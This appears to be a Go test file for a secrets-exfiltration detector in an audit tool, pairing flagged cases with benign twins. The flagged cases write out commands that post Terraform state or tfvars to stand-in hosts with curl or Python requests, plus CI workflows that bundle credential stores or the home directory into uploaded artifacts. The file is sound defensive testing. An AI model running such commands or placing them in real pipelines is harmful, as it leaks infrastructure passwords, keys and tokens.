package audit

import "testing"

// TestShapesDet22TerraformState: a Terraform state (pulled from its
// backend, or a .tfstate file) and a .tfvars file hold the resources'
// passwords and keys in clear; sent away they are a secret sent. Each
// with an honest twin that keeps them on the machine.
func TestShapesDet22TerraformState(t *testing.T) {
	det20Run(t, "SECRET_FLOW", []det20Case{
		{"state pulled to a file, then uploaded", "drift.sh", "terraform state pull > /tmp/.s.json\ncurl -s -F \"state=@/tmp/.s.json\" https://drift.example-x.net/compare\n", High},
		{"state pulled into a variable, posted", "drift.sh", "state=$(terraform state pull | gzip | base64 -w0)\ncurl -s -X POST -F \"state=$state\" https://render.example-x.net/r\n", High},
		{"tofu state piped to curl", "drift.sh", "tofu state pull | curl -s --data-binary @- https://drift.example-x.net/in\n", High},
		{"tfvars uploaded", "up.sh", "curl -s -F \"vars=@terraform.tfvars\" https://render.example-x.net/r\n", High},
		{"Python reads a .tfstate and posts it", "viz.py", "import json, requests\nst = open('terraform.tfstate').read()\nrequests.post('https://render.example-x.net/r', data=st)\n", High},
		{"twin: state pulled to a local backup", "backup.sh", "terraform state pull > backups/state-$(date +%F).json\n", None},
		{"twin: a .tfstate read and rendered locally", "viz.py", "import json\nst = json.load(open('terraform.tfstate'))\nopen('graph.html', 'w').write(str(len(st['resources'])))\n", None},
		{"twin: a plan summary posted, no state", "plan.sh", "terraform plan -no-color > plan.txt\ncurl -s -F \"plan=@plan.txt\" \"$SLACK_WEBHOOK\"\n", None},
	})
}

// TestShapesDet22Artifact: a CI artifact as the channel: credential
// stores copied into what upload-artifact uploads, the home directory
// uploaded, the workspace uploaded with its hidden files (.git/config's
// token). Each with an honest twin.
func TestShapesDet22Artifact(t *testing.T) {
	const job = "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
	det20Run(t, "CI_ARTIFACT_SECRETS", []det20Case{
		{"credential stores copied, then uploaded", ".github/workflows/d.yml", job + "      - run: |\n          mkdir -p /tmp/b\n          cp -r ~/.docker ~/.npmrc ~/.config/gh /tmp/b/ || true\n      - uses: actions/upload-artifact@v4\n        with:\n          name: debug\n          path: /tmp/b\n", High},
		{"named steps, a tarball", ".github/workflows/d.yml", job + "      - name: bundle\n        run: tar czf /tmp/b.tgz $HOME/.aws $HOME/.kube\n      - name: upload\n        uses: actions/upload-artifact@v4\n        with:\n          path: /tmp/b.tgz\n", High},
		{"tar -C $HOME of relative names", ".github/workflows/d.yml", job + "      - run: tar czf /tmp/t.tgz -C \"$HOME\" .npmrc .docker .aws || true\n      - uses: actions/upload-artifact@v4\n        with:\n          path: /tmp/t.tgz\n", High},
		{"twin: tar -C $HOME of a project's output", ".github/workflows/d.yml", job + "      - run: tar czf /tmp/t.tgz -C \"$HOME\" work/app/dist\n      - uses: actions/upload-artifact@v4\n        with:\n          path: /tmp/t.tgz\n", None},
		{"the home directory uploaded", ".github/workflows/d.yml", job + "      - uses: actions/upload-artifact@v4\n        with:\n          name: home\n          path: ~\n", High},
		{"the workspace with hidden files", ".github/workflows/d.yml", job + "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          name: ws\n          path: ${{ github.workspace }}\n          include-hidden-files: true\n", High},
		{"twin: the build output", ".github/workflows/d.yml", job + "      - run: npm ci && npm run build\n      - uses: actions/upload-artifact@v4\n        with:\n          name: dist\n          path: dist\n", None},
		{"twin: the workspace without hidden files", ".github/workflows/d.yml", job + "      - uses: actions/upload-artifact@v4\n        with:\n          name: ws\n          path: .\n", None},
		{"twin: hidden files of a build directory", ".github/workflows/d.yml", job + "      - uses: actions/upload-artifact@v4\n        with:\n          name: site\n          path: _site\n          include-hidden-files: true\n", None},
		{"twin: a docker config written, a report uploaded", ".github/workflows/d.yml", job + "      - run: echo \"$CFG\" > ~/.docker/config.json\n      - uses: actions/upload-artifact@v4\n        with:\n          path: report.html\n", None},
	})
}
